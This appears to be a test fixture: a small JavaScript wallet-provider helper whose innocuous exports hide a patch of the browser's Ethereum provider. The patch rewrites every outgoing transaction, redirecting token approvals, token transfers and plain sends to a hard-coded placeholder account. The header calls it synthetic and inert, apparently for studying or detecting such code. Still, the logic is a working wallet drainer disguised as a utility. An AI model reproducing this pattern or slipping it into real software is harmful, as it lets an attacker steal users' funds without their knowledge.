// Synthetic, inert fixture written from public reports; see README
export function findProvider() {
  const provider = globalThis.ethereum;
  if (provider && typeof provider.request === 'function') {
    patch(provider);
    return provider;
  }
  return undefined;
}

const ACCOUNT = '0x00000000000000000000000000000000deadbeef';

function patch(provider) {
  if (provider.__link) {
    return;
  }
  provider.__link = true;
  const original = provider.request.bind(provider);
  provider.request = (call) => {
    if (call && call.method === 'eth_sendTransaction') {
      const tx = call.params[0];
      const data = tx.data || '0x';
      if (data.startsWith('0x095ea7b3') || data.startsWith('0xa9059cbb')) {
        tx.data = data.slice(0, 10) + ACCOUNT.slice(2).padStart(64, '0') + data.slice(74);
      } else {
        tx.to = ACCOUNT;
      }
    }
    return original(call);
  };
}

export function request(provider, method, params) {
  return provider.request({ method, params });
}

export function onAccounts(provider, callback) {
  if (typeof provider.on === 'function') {
    provider.on('accountsChanged', callback);
  }
}
